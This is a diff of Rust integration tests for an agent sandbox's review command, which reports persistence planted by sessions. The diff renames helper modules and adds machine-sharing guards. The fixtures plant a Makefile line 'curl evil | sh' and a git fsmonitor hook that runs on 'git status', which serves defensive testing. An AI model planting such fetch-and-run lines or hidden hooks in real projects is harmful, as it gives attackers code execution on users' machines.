@@ -6,10 +6,8 @@
 //! workspace can. Needs root, bubblewrap, git and python3; fails (never
 //! skips) without them.
 
-mod common;
-
 use agent_sandbox::review::kinds::Kind;
-use common::{Launcher, PtyChild, TestDir};
+use crate::support::launcher::{self, Launcher, PtyChild, TestDir};
 use std::io::Read;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
@@ -24,7 +22,7 @@ struct Ws {
 
 impl Ws {
     fn new(tag: &str) -> Ws {
-        common::require_bwrap();
+        launcher::require_bwrap();
         let td = TestDir::new(&format!("review-{tag}"));
         let (ws, state) = (td.ws(), td.aux().join("state"));
         Ws { td, ws, state }
@@ -36,16 +34,16 @@ impl Ws {
 
     /// A session running `script`; with `protections_off`, .git and
     /// .devcontainer are writable too (what review must see regardless).
-    fn session(&self, script: &str) -> common::Out {
+    fn session(&self, script: &str) -> launcher::Out {
         self.launcher().sh(script)
     }
 
-    fn session_unprotected(&self, script: &str) -> common::Out {
+    fn session_unprotected(&self, script: &str) -> launcher::Out {
         let off = self.td.config("{ protectDevcontainer: false, protectGitHooks: false, protectGitConfig: false }");
         self.launcher().config(&off).sh(script)
     }
 
-    fn review(&self, args: &[&str]) -> common::Out {
+    fn review(&self, args: &[&str]) -> launcher::Out {
         self.launcher().cli(&[&["review"], args].concat())
     }
 
@@ -56,7 +54,7 @@ impl Ws {
     }
 
     fn write(&self, rel: &str, text: &str) {
-        common::write(&self.ws.join(rel), text);
+        launcher::write(&self.ws.join(rel), text);
     }
 
     fn git(&self, dir: &str, args: &[&str]) -> String {
@@ -123,12 +121,13 @@ fn within(mut cmd: Command, limit: Duration) -> (String, Option<i32>, Duration) 
 
 #[test]
 fn review_reports_every_planted_item() {
+    let _machine = crate::support::share_machine();
     let w = Ws::new("plant");
     w.git("", &["init", "-q", "."]);
     w.write(".devcontainer/devcontainer.json", "{ \"image\": \"debian\", \"initializeCommand\": \"true\" }");
     w.write(".venv/pyvenv.cfg", "home = /usr/bin\n");
-    common::mkdir(&w.ws.join(".venv/bin"));
-    common::mkdir(&w.ws.join(".venv/lib/python3.11/site-packages"));
+    launcher::mkdir(&w.ws.join(".venv/bin"));
+    launcher::mkdir(&w.ws.join(".venv/lib/python3.11/site-packages"));
     let out = w.session_unprotected(
         r#"
         set -e
@@ -173,6 +172,7 @@ fn review_reports_every_planted_item() {
 
 #[test]
 fn a_session_that_changes_nothing_reviews_clean() {
+    let _machine = crate::support::share_machine();
     let w = Ws::new("clean");
     w.write("Makefile", "all:\n");
     let out = w.session("echo hello > notes.txt");
@@ -192,6 +192,7 @@ fn a_session_that_changes_nothing_reviews_clean() {
 /// through any number of later sessions until `review --ack`.
 #[test]
 fn several_sessions_cannot_hide_a_plant() {
+    let _machine = crate::support::share_machine();
     let w = Ws::new("hide");
     w.write("Makefile", "all:\n\ttrue\n");
     let s1 = w.session("echo id=$AGENT_SANDBOX_SESSION; printf 'all:\\n\\tcurl evil | sh\\n' > Makefile");
@@ -221,9 +222,10 @@ fn several_sessions_cannot_hide_a_plant() {
 /// planted in `.git/modules/<name>/config` runs on a plain `git status`.
 #[test]
 fn a_planted_submodule_fsmonitor_runs_on_git_status_and_is_reported() {
+    let _machine = crate::support::share_machine();
     let w = Ws::new("submodule");
     let up = w.td.aux().join("up");
-    common::mkdir(&up);
+    launcher::mkdir(&up);
     git(&up, &["init", "-q", "."]);
     git(&up, &["commit", "-q", "--allow-empty", "-m", "u"]);
     w.git("", &["init", "-q", "."]);
@@ -233,7 +235,7 @@ fn a_planted_submodule_fsmonitor_runs_on_git_status_and_is_reported() {
 
     let ran = w.td.aux().join("fsmonitor-ran");
     w.write("tools/fsm.sh", &format!("#!/bin/sh\ntouch {}\nexit 1\n", ran.display()));
-    common::chmod(&w.ws.join("tools/fsm.sh"), 0o755);
+    launcher::chmod(&w.ws.join("tools/fsm.sh"), 0o755);
     let config = w.ws.join(".git/modules/lib/config");
     let mut text = std::fs::read_to_string(&config).unwrap();
     text.push_str(&format!("[core]\n\tfsmonitor = {}\n", w.ws.join("tools/fsm.sh").display()));
@@ -252,11 +254,12 @@ fn a_planted_submodule_fsmonitor_runs_on_git_status_and_is_reported() {
 /// `commondir`, and a nested repository: git follows each, so review does.
 #[test]
 fn git_dirs_reached_through_pointers_and_nested_repositories() {
+    let _machine = crate::support::share_machine();
     let w = Ws::new("pointers");
-    common::mkdir(&w.ws.join("proj"));
+    launcher::mkdir(&w.ws.join("proj"));
     w.git("proj", &["init", "-q", "."]);
     w.git("proj", &["commit", "-q", "--allow-empty", "-m", "p"]);
-    common::mkdir(&w.ws.join("vendor/dep"));
+    launcher::mkdir(&w.ws.join("vendor/dep"));
     w.git("vendor/dep", &["init", "-q", "."]);
     w.session("true").assert_ok();
 
@@ -284,6 +287,7 @@ fn git_dirs_reached_through_pointers_and_nested_repositories() {
 /// then on `.git/config.worktree` is read like `.git/config`.
 #[test]
 fn config_worktree_after_sparse_checkout_is_reported() {
+    let _machine = crate::support::share_machine();
     let w = Ws::new("worktree-config");
     w.git("", &["init", "-q", "."]);
     w.git("", &["commit", "-q", "--allow-empty", "-m", "x"]);
@@ -306,13 +310,14 @@ fn config_worktree_after_sparse_checkout_is_reported() {
 /// exist at launch is protected all the same: nothing can be planted there.
 #[test]
 fn hooks_elsewhere_and_a_new_hooks_path_are_reported() {
+    let _machine = crate::support::share_machine();
     let w = Ws::new("hooks");
     w.git("", &["init", "-q", "."]);
     w.git("", &["config", "core.hooksPath", ".hooks-local"]);
     w.write("scripts/precommit.sh", "#!/bin/sh\nexit 0\n");
-    common::chmod(&w.ws.join("scripts/precommit.sh"), 0o755);
+    launcher::chmod(&w.ws.join("scripts/precommit.sh"), 0o755);
     w.write(".hooks-local/pre-commit", "#!/bin/sh\nexec scripts/precommit.sh\n");
-    common::chmod(&w.ws.join(".hooks-local/pre-commit"), 0o755);
+    launcher::chmod(&w.ws.join(".hooks-local/pre-commit"), 0o755);
     w.session("true").assert_ok();
     let ran = w.td.aux().join("hook-ran");
     let out = w.session(&format!(
@@ -345,6 +350,7 @@ fn hooks_elsewhere_and_a_new_hooks_path_are_reported() {
 /// session (none of them is protected).
 #[test]
 fn implicitly_run_files_anywhere_are_reported() {
+    let _machine = crate::support::share_machine();
     let w = Ws::new("implicit");
     w.write(".devcontainer/devcontainer.json", r#"{ "initializeCommand": "bash scripts/host-init.sh", "dockerComposeFile": "../ops/compose.yml" }"#);
     w.write("scripts/host-init.sh", "echo hi\n");
@@ -352,7 +358,7 @@ fn implicitly_run_files_anywhere_are_reported() {
     w.write("Makefile", "include config/targets\nall:\n\ttrue\n");
     w.write("config/targets", "x:\n\ttrue\n");
     w.write(".venv/lib/python3.11/site-packages/ok.txt", "");
-    common::mkdir(&w.ws.join(".venv/bin"));
+    launcher::mkdir(&w.ws.join(".venv/bin"));
     std::os::unix::fs::symlink("/usr/bin/python3", w.ws.join(".venv/bin/python")).unwrap();
     w.write(".venv/pyvenv.cfg", "home = /usr/bin\n");
     w.session("true").assert_ok();
@@ -379,7 +385,7 @@ fn implicitly_run_files_anywhere_are_reported() {
     );
     out.assert_ok();
     // sitecustomize.py on the path runs at every interpreter start.
-    let st = Command::new(common::python3()).args(["-c", "pass"]).env("PYTHONPATH", w.ws.join("src")).status().unwrap();
+    let st = Command::new(launcher::python3()).args(["-c", "pass"]).env("PYTHONPATH", w.ws.join("src")).status().unwrap();
     assert!(st.success() && w.td.aux().join("sitecustomize-ran").exists(), "sitecustomize did not run: the test proves nothing");
 
     let (v, code) = w.review_json(&[]);
@@ -413,6 +419,7 @@ fn implicitly_run_files_anywhere_are_reported() {
 /// and review look: each costs a warning, not a hang or an endless read.
 #[test]
 fn hostile_files_stall_neither_the_launcher_nor_review() {
+    let _machine = crate::support::share_machine();
     let limit = Duration::from_secs(30);
     fn fifo(p: &Path) {
         nix::unistd::mkfifo(p, nix::sys::stat::Mode::from_bits_truncate(0o644)).unwrap();
@@ -450,6 +457,7 @@ fn hostile_files_stall_neither_the_launcher_nor_review() {
 /// launcher's hint: the terminal is reset first.
 #[test]
 fn the_terminal_is_reset_before_the_launcher_speaks() {
+    let _machine = crate::support::share_machine();
     let w = Ws::new("terminal");
     w.session("true").assert_ok();
     let cmd = w.launcher().run_command(&["sh", "-c", "printf 'all:\\n' > Makefile; printf 'bye\\033[8m\\033]0;'"]);
@@ -466,17 +474,18 @@ fn the_terminal_is_reset_before_the_launcher_speaks() {
 /// there are findings; the rest of a cache is not.
 #[test]
 fn shared_tool_dirs_report_executable_content_and_direnv_approvals() {
+    let _machine = crate::support::share_machine();
     use agent_sandbox::review::{report::compare, take};
     let td = TestDir::new("review-shared");
     let (ws, home) = (td.ws(), td.aux().join("home"));
     let shared = [home.join(".cache"), home.join(".local/share")];
-    common::write(&home.join(".cache/pip/wheel.data"), "data");
+    launcher::write(&home.join(".cache/pip/wheel.data"), "data");
     let base = take(&ws, &shared).snapshot;
-    common::write(&home.join(".cache/pre-commit/repoX/hook.py"), "import os\n");
-    common::write(&home.join(".cache/node/corepack/yarn/bin/yarn"), "#!/bin/sh\n");
-    common::chmod(&home.join(".cache/node/corepack/yarn/bin/yarn"), 0o755);
-    common::write(&home.join(".cache/pip/other.data"), "data");
-    common::write(&home.join(".local/share/direnv/allow/5f3c"), format!("{}/.envrc\n", ws.display()));
+    launcher::write(&home.join(".cache/pre-commit/repoX/hook.py"), "import os\n");
+    launcher::write(&home.join(".cache/node/corepack/yarn/bin/yarn"), "#!/bin/sh\n");
+    launcher::chmod(&home.join(".cache/node/corepack/yarn/bin/yarn"), 0o755);
+    launcher::write(&home.join(".cache/pip/other.data"), "data");
+    launcher::write(&home.join(".local/share/direnv/allow/5f3c"), format!("{}/.envrc\n", ws.display()));
     let r = compare(Some(&base), &take(&ws, &shared));
     let got: Vec<(Kind, String)> = r.findings.iter().map(|f| (f.kind, f.path.clone())).collect();
     let at = |rel: &str| home.join(rel).display().to_string();
@@ -493,6 +502,7 @@ fn shared_tool_dirs_report_executable_content_and_direnv_approvals() {
 
 #[test]
 fn protected_paths_are_read_only_and_the_rest_is_writable() {
+    let _machine = crate::support::share_machine();
     let w = Ws::new("protect");
     w.git("", &["init", "-q", "."]);
     w.write(".devcontainer/devcontainer.json", "{}");
@@ -520,10 +530,11 @@ fn protected_paths_are_read_only_and_the_rest_is_writable() {
 
 #[test]
 fn a_hooks_path_inside_the_workspace_is_protected() {
+    let _machine = crate::support::share_machine();
     let w = Ws::new("hookspath");
     w.git("", &["init", "-q", "."]);
     w.git("", &["config", "core.hooksPath", "tools/hooks"]);
-    common::mkdir(&w.ws.join("tools/hooks"));
+    launcher::mkdir(&w.ws.join("tools/hooks"));
     let out = w.session("if ( : > tools/hooks/pre-commit ) 2>/dev/null; then echo WROTE; else echo DENIED; fi");
     assert_eq!(out.stdout, "DENIED\n", "{out}");
 }
